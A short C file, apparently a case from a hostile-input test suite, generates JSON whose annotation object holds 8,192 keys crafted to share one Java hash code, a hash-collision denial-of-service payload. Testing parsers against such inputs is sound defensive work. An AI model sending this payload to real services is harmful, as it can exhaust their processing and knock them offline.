// Tries the same by 8,192 keys that have one hash code in Java.
#include "hostile.h"

ATTACK {
  say("{\"response\":{\"apiVersion\":\"\",\"kind\":\"\",\"response\":{\"auditAnnotations\":{");
  for (u32 i = 0; i < 8192; i++) {
    char key[] = "\"..........................\":\"\",";
    for (u32 bit = 0; bit < 13; bit++) {
      key[1 + 2 * bit] = i >> bit & 1 ? 'A' : 'B';
      key[2 + 2 * bit] = i >> bit & 1 ? 'a' : 'B';
    }
    put(1, key, 32);
  }
  say("\"z\":\"\"}}}}");
}
